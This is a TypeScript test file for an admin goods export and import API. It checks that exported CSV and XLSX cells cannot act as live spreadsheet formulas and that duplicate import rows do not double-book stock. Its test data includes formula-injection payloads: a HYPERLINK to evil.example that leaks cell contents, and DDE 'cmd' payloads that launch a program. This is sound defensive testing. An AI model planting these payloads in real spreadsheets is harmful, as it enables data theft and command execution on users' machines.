import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rowsOf } from '../../db/json-rows.ts';
import { goods, stockLedger } from '../../db/schema/index.ts';
import { parseCsv } from '../../modules/catalog/admin-import-read.ts';
import { makeGoods, readGoods } from '../../test/buyers.ts';
import { multipartFile, staffLogin, type TestApp, testApp } from '../../test/helper.ts';

// The goods spreadsheet as an attack surface: text a staff member (or a
// supplier's file) put into goods must never come out of the export as a
// live formula, the export must still import back unchanged, and a file
// naming one goods twice must not book its stock twice.

let t: TestApp;
let admin: Record<string, string>;
const hostile: Record<number, string> = {};

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  t = await testApp({ goodsCount: 5 });
  admin = await staffLogin(t, 'admin');
  for (const f of FORMULAS) {
    const id = await makeGoods(t.db, { name: f, manufacturer: f });
    hostile[id] = f;
  }
});
afterAll(() => t?.close());

const exportOf = (format: 'csv' | 'xlsx') =>
  t.app.inject({ url: `/admin-api/goods/export?format=${format}`, headers: admin });

function upload(file: Buffer, filename: string, confirm: 0 | 1) {
  const { payload, 'content-type': type } = multipartFile(file, filename);
  return t.app.inject({
    method: 'POST',
    url: `/admin-api/goods/import?confirm=${confirm}`,
    headers: { ...admin, 'content-type': type },
    payload,
  });
}

/** What a spreadsheet program would take for a formula: a cell starting with one of these. */
const live = (cell: unknown) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell);

describe('export: formula injection', () => {
  it('no csv cell of the hostile goods starts with = + - @ tab or CR', async () => {
    const r = await exportOf('csv');
    expect(r.statusCode).toBe(200);
    const rows = parseCsv(r.body.replace(/^\uFEFF/, ''));
    const mine = rows.filter((row) => Number(row[0]) in hostile);
    expect(mine).toHaveLength(FORMULAS.length);
    const liveCells = mine.flatMap((row) => row.filter(live));
    expect(liveCells).toEqual([]);
    // The text is still there to read, behind the neutralising prefix.
    for (const row of mine) expect(String(row[1])).toContain(hostile[Number(row[0])]!.trim());
  });

  it('no xlsx cell of the hostile goods is a formula', async () => {
    const r = await exportOf('xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const formulas: string[] = [];
    let seen = 0;
    book.worksheets[0]!.eachRow((row) => {
      if (!(Number(row.getCell(1).value) in hostile)) return;
      seen++;
      row.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula || c.formula) formulas.push(String(c.address));
      });
    });
    expect(seen).toBe(FORMULAS.length);
    expect(formulas).toEqual([]);
  });

  it('the neutralised export imports back unchanged, as csv and as xlsx', async () => {
    // The console trims what staff type: names with a leading tab or CR cannot be made there.
    for (const [id, name] of Object.entries(hostile)) {
      hostile[Number(id)] = name.trim();
      await t.db
        .update(goods)
        .set({ name: name.trim(), manufacturer: name.trim() })
        .where(eq(goods.id, Number(id)));
    }
    for (const format of ['csv', 'xlsx'] as const) {
      const r = await exportOf(format);
      const back = await upload(r.rawPayload, `goods.${format}`, 1);
      expect(back.json(), back.body).toMatchObject({ code: 10000 });
      expect(back.json().data, format).toMatchObject({ changed: 0, errors: [] });
    }
    for (const [id, name] of Object.entries(hostile))
      expect((await readGoods(t.db, Number(id))).name).toBe(name);
  });
});

describe('import: one goods twice in a file', () => {
  it('books its stock once at most, and the ledger still sums to the stock', async () => {
    const id = await makeGoods(t.db, { stock: 0 });
    await t.db.insert(stockLedger).values({
      goodsId: id,
      change: 0,
      stockAfter: 0,
      kind: 'receive',
      ref: '期初库存',
    });
    const file = Buffer.from(
      `\uFEFF商品ID,库存,库存变动原因\r\n${id},50,入库A\r\n${id},70,入库B\r\n`,
    );
    const dry = await upload(file, 'dup.csv', 0);
    expect(dry.statusCode, dry.body).toBe(200);
    expect(dry.json().data.error_count).toBeGreaterThan(0);
    expect((await readGoods(t.db, id)).stock).toBe(0);
    const r = await upload(file, 'dup.csv', 1);
    expect(r.statusCode, r.body).toBe(200);
    const stock = (await readGoods(t.db, id)).stock;
    expect([0, 50, 70]).toContain(stock);
    const [sum] = rowsOf<{ n: number }>(
      await t.db.execute(
        sql`SELECT coalesce(sum(change), 0)::int AS n FROM stock_ledger WHERE goods_id = ${id}`,
      ),
    );
    expect(sum!.n).toBe(stock);
    const entries = await t.db.select().from(stockLedger).where(eq(stockLedger.goodsId, id));
    expect(entries.length).toBeLessThanOrEqual(2);
  });
});
